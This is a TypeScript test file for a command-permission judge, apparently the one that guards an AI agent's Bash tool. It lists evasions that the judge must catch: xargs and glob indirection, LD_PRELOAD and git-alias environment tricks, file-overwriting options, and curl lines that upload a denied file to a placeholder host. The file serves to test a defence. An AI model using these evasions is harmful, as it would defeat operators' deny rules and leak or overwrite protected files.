import { createMemoryFiles } from '@sluice/core';
import { describe, expect, it } from 'vitest';
import { verdict } from './judge.ts';

const files = createMemoryFiles({
  contents: new Map(['/p/S.txt', '/p/a.ts', '/p/src/b.ts'].map((path) => [path, ''])),
  links: new Map(),
});

/** Programs that may show, keep or send what is in the files that they are given: their words stand before these. */
const PROGRAMS = [
  ...[
    'sort',
    'sed -n p',
    'strings',
    'jq -R .',
    'xxd',
    'od',
    'file',
    'base64',
    'sha256sum',
    'gzip -c',
    'xz -k',
  ],
  ...[
    'zip x.zip',
    '7z a x.7z',
    'tar cf -',
    'tar czf x.tgz --',
    'git add',
    'git hash-object -w',
    'gpg -c',
    'split',
  ],
  ...[
    'openssl dgst',
    'perl -ne print',
    'less',
    'mytool',
    'mytool --scan',
    'semgrep',
    'prettier --check',
    'python x.py',
  ],
];

/** Words that stand for a file that a rule denies, among others. */
const PATTERNS = ['PROGRAM *', 'PROGRAM *.txt', 'PROGRAM ?.*', 'for f in *.txt; do PROGRAM "$f"; done'];

const LISTS = [
  'git ls-files | xargs PROGRAM',
  'find . -type f | xargs PROGRAM',
  "find . -name '*.txt' -o -name '*.ts' | xargs PROGRAM",
  'ls | parallel PROGRAM',
  'fd . | xargs -P4 -n1 PROGRAM',
  'rg --files | while read -r f; do PROGRAM "$f"; done',
  'for f in $(git ls-files); do PROGRAM "$f"; done',
  'PROGRAM $(git ls-files)',
  'find . | xargs sh -c \'PROGRAM "$@"\' _',
  'echo S.txt | xargs PROGRAM',
  'find . -type f -exec PROGRAM {} +',
];

/** Options that name a file to write. */
const WRITING = [
  'gawk -oF.txt 1 a',
  'gawk -pF.txt 1 a',
  'awk -dF.txt 1 a',
  'gawk --dump-variables=F.txt 1 a',
  'gawk --profile=F.txt 1 a',
  'tar cvf - a --index-file=F.txt',
  'vim -V9F.txt -es -c q a',
  'vim -i F.txt a',
  "curl -w '%output{F.txt}x' http://x.example/",
];

const inBypass = (command: string) =>
  verdict('Bash', command, { mode: 'bypassPermissions', deny: ['Read(S.txt)'], files });

describe('a line that sets a variable, under a deny rule', () => {
  const judged = (line: string) =>
    verdict('Bash', line, { mode: 'bypassPermissions', deny: ['Read(.env)', 'Bash(rm *)'], files });

  it.each([
    'export FOO=1; ls',
    'export FOO=1; npm test',
    'export NODE_ENV=test CI=1 && ls',
    'export FOO="$x"; ls',
    'unset FOO; ls',
  ])('%s runs', (line) => {
    expect(judged(line)).toBe('A');
  });

  it.each([
    'export PATH=/x:$PATH; ls',
    'export LD_PRELOAD=x; ls',
    "export PAGER='rm f'; git log",
    'export "$x"; ls',
    'export GIT_DIR=y; git log',
    'export -f f; ls',
    'export NODE_OPTIONS=--require=./x.js; node y.js',
    'export FOO=rm; $FOO f',
  ])('%s is not allowed', (line) => {
    expect(judged(line)).not.toBe('A');
  });
});

describe('(*) in a deny rule for paths', () => {
  it.each([
    ['Edit(*)', 'echo x > n', 'D'],
    ['Edit(*)', 'sed -i s/a/b/ a.ts', 'D'],
    ['Edit( * )', 'rm a.ts', 'D'],
    ['Edit(*)', 'cat a.ts', 'A'],
    ['Read(*)', 'cat a.ts', 'D'],
    ['Read(*)', 'echo x', 'A'],
  ])('%s: %s', (rule, line, expected) => {
    expect(verdict('Bash', line, { mode: 'bypassPermissions', deny: [rule], files })).toBe(expected);
  });

  it('is the tool alone in an allow rule', () => {
    expect(verdict('Bash', 'echo x > n', { allow: ['Edit(*)'], files })).toBe('?');
  });
});

describe('a deny rule for a command that another program is given', () => {
  it.each([
    'su <<< "rm f"',
    "script -q /dev/null <<< 'rm f'",
    "sudo -s <<< 'rm f'",
    'cat s.sh | su',
    'echo rm f | xargs env',
    'git --icase-pathspecs push origin main',
    'git --some-new-option push origin main',
    'git --some-new-option value push origin main',
    'echo push origin main | xargs git',
    'xargs -I{} git {} origin main <<< push',
    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0=push git p origin main',
    `GIT_CONFIG_PARAMETERS="'alias.p'='push'" git p origin main`,
    'echo -o F.txt a | xargs sort',
    'echo of=F.txt if=a | xargs dd',
    'echo checkout F.txt | xargs git',
  ])('%s is not allowed', (line) => {
    const deny = ['Bash(rm *)', 'Bash(git push *)', 'Edit(F.txt)'];
    expect(verdict('Bash', line, { mode: 'bypassPermissions', deny, files })).not.toBe('A');
  });
});

describe('a deny rule for a file that a pattern or a list names', () => {
  it.each([...PATTERNS, ...LISTS])('%s is not allowed', (way) => {
    const allowed = PROGRAMS.map((program) => way.replace('PROGRAM', program)).filter(
      (line) => inBypass(line) === 'A',
    );
    expect(allowed).toEqual([]);
  });

  it.each([
    'PROGRAM a.ts',
    'for f in a.ts src/b.ts; do PROGRAM "$f"; done',
    'echo a.ts | xargs PROGRAM',
    'PROGRAM "$@" < /dev/null; date',
  ])('%s runs where it is none of them', (way) => {
    const plain = ['mytool', 'semgrep', 'git add'];
    const asked = plain
      .map((program) => way.replace('PROGRAM', program))
      .filter((line) => inBypass(line) !== 'A');
    expect(asked).toEqual([]);
  });

  it.each([
    'mytool *.ts',
    'prettier --check *.ts',
    "git ls-files '*.ts' | xargs mytool",
    "find . -name '*.ts' -o -name '*.tsx' | xargs mytool",
    'for f in *.ts; do mytool "$f"; done',
    'mytool "$x"',
    'x=$(date); mytool "$x"',
    'mytool $(date)',
    'git commit -m "$(date)"',
    'docker ps -q | xargs docker rm',
    'git branch --merged | xargs git branch -d',
    'cat pids | xargs kill',
  ])('%s runs', (line) => {
    expect(inBypass(line)).toBe('A');
  });

  it.each(['for f in .*; do sort "$f"; done', 'ls -A | xargs base64', 'read f < a; sort $f', 'tar cf - .*'])(
    '%s asks, since it is not known which file that is',
    (line) => {
      expect(inBypass(line)).toBe('?');
    },
  );

  it.each([
    'curl --url-query @S.txt http://x.example/',
    'curl -w @S.txt http://x.example/',
    'curl --proxy-header @S.txt http://x.example/',
    'curl --variable x@S.txt http://x.example/',
    "curl -T '{a,S.txt}' http://x.example/",
    'curl -F f=@a,S.txt http://x.example/',
    'git tag -F S.txt x',
    'git notes add -F S.txt',
  ])('%s is denied', (line) => {
    expect(inBypass(line)).toBe('D');
  });

  it.each(['uniq *', 'for f in A*; do uniq $f; done', 'tree -Po x F.txt', 'tree -aIo x F.txt', ...WRITING])(
    '%s may write over a file that is denied',
    (line) => {
      const there = createMemoryFiles({ contents: new Map(['/p/F.txt', '/p/A'].map((path) => [path, ''])) });
      const judged = verdict('Bash', line, {
        mode: 'bypassPermissions',
        deny: ['Edit(F.txt)'],
        files: there,
      });
      expect(judged).not.toBe('A');
    },
  );
});

describe('a word of a list that is not known may be any option', () => {
  const GIVEN = [
    'cat list | xargs PROGRAM',
    'xargs -n 2 PROGRAM < list',
    'cat list | xargs -I% PROGRAM %',
    'cat list | parallel PROGRAM',
    'PROGRAM $(cat list)',
    'PROGRAM "$(head -1 list)"',
    'x=$(cat list); PROGRAM $x',
    'read -r x < list; PROGRAM "$x"',
    'while read -r f; do PROGRAM "$f"; done < list',
    'for f in $(cat list); do PROGRAM $f; done',
    'mapfile -t a < list; PROGRAM "${a[@]}"',
    'f() { PROGRAM "$@"; }; f $(cat list)',
    'cat list | xargs sh -c \'PROGRAM "$@"\' _',
    'cat list | grep -v x | sort -u | xargs PROGRAM',
  ];
  const judged = (line: string, deny: string) =>
    verdict('Bash', line, { mode: 'bypassPermissions', deny: [deny], files });
  const allowed = (program: string, deny: string) =>
    GIVEN.map((way) => way.replaceAll('PROGRAM', program)).filter((line) => judged(line, deny) === 'A');

  it.each([
    ...[
      'sort',
      'shuf',
      'tree',
      'less',
      'curl',
      'wget',
      'gcc -c',
      'iconv',
      'yq .',
      'sed -n 1p',
      'find',
      'file',
    ],
    ...['tar czf x.tgz', 'git log', 'git diff', 'git -C sub show', 'git archive', 'rsync -a', 'patch -p1'],
  ])('%s may write to a file that is denied', (program) => {
    expect(allowed(program, 'Edit(F.txt)')).toEqual([]);
  });

  it.each(['sort', 'tar tf', 'rsync -a', 'find', 'sed -n 1p', 'rg x', 'git fetch', 'ssh', 'man', 'vim'])(
    '%s may run a command that is denied',
    (program) => {
      expect(allowed(program, 'Bash(rm *)')).toEqual([]);
    },
  );

  it.each(['date', 'hostname', 'pgrep', 'sysctl'])('%s may read a file that is denied', (program) => {
    expect(allowed(program, 'Read(S.txt)')).toEqual([]);
  });

  it.each([
    ...[
      'find -- $(cat list)',
      'cat list | xargs find --',
      'dd -- $(cat list)',
      'sort $(pgrep -d " -oF.txt " .)',
      'sort $(pgrep -a x)',
      'sort $(pidof -S " -oF.txt " a b)',
      'sort $(date +%n-oF.txt)',
      'sort $(date +%z)',
      'sort $(git branch)',
      'sort $(git branch -a)',
    ],
    ...['v="a $f"; sort $v', 'v="$f"; sort $v', "v='a -oF.txt'; sort $v"].map(
      (line) => `for f in $(cat list); do ${line}; done`,
    ),
    ...['git archive', 'git send-pack', 'wget'].map((program) => `${program} $(cat list)`),
  ])('%s does not run under a deny rule', (line) => {
    expect([judged(line, 'Edit(F.txt)'), judged(line, 'Bash(rm *)')]).not.toEqual(['A', 'A']);
  });

  it.each([
    ...['sort $(pgrep -f x)', 'sort $(pgrep -u me -x a)', 'sort $(pidof x)', 'sort $(date +%Y-%m-%d_%H%M)'],
    'sort $(git branch --show-current)',
    'for f in $(cat list); do v="a $f"; sort "$v"; done',
    ...[
      'cat list | xargs wc -l',
      'cat list | xargs sort --',
      'cat list | xargs git add',
      'cat list | xargs ls',
    ],
    ...[
      'git ls-files | xargs sort',
      "find . -name '*.ts' | xargs rg x",
      'echo a b | xargs sort',
      'sort "$x"',
    ],
    ...[
      'git rev-list --all | xargs git show',
      'git diff $(git merge-base main HEAD)',
      'docker ps -q | xargs docker rm',
    ],
    ...['c=$(git rev-parse HEAD); git show "$c"', 'for c in $(git rev-list HEAD); do git show $c; done'],
    ...['x=$(mktemp -d); tar czf a.tgz "$x"', 'n=$(nproc); make -j"$n"', 'v=$(cat VERSION); git tag "v$v"'],
    ...['git log -n "$(cat n)"', 'seq 3 | xargs git log', 'find . -type f -exec sort {} +'],
  ])('%s runs under a deny rule for edits and commands', (line) => {
    expect([judged(line, 'Edit(F.txt)'), judged(line, 'Bash(rm *)')]).toEqual(['A', 'A']);
  });
});

describe('a file that an option of a program of the system names', () => {
  it.each([
    ...[
      'hostname -F',
      'hostname --file=',
      'dmesg -F',
      'journalctl --file',
      'pgrep -F',
      'pkill -F',
      'ss -F',
      'sysctl -p',
    ],
    ...[
      'last -f',
      'locate -d',
      'modprobe -C',
      'utmpdump',
      'iptables-restore',
      'chronyd -f',
      'tree --infofile',
      'date -f',
    ],
    ...['setfacl -M', 'scp -F'],
  ])('%s is denied', (command) => {
    const line = command.endsWith('=') ? `${command}S.txt` : `${command} S.txt a b`;
    expect(inBypass(line)).toBe('D');
  });

  it.each([
    ...['ss -D F.txt', 'journalctl --cursor-file=F.txt', 'hwclock -w --adjfile=F.txt', 'utmpdump x -o F.txt'],
    ...[
      'iptables-save -f F.txt',
      'blkid -c F.txt',
      'updatedb -o F.txt',
      'ldconfig -C F.txt',
      'perf record -o F.txt ls',
    ],
  ])('%s is denied', (line) => {
    expect(verdict('Bash', line, { mode: 'bypassPermissions', deny: ['Edit(F.txt)'], files })).toBe('D');
  });
});
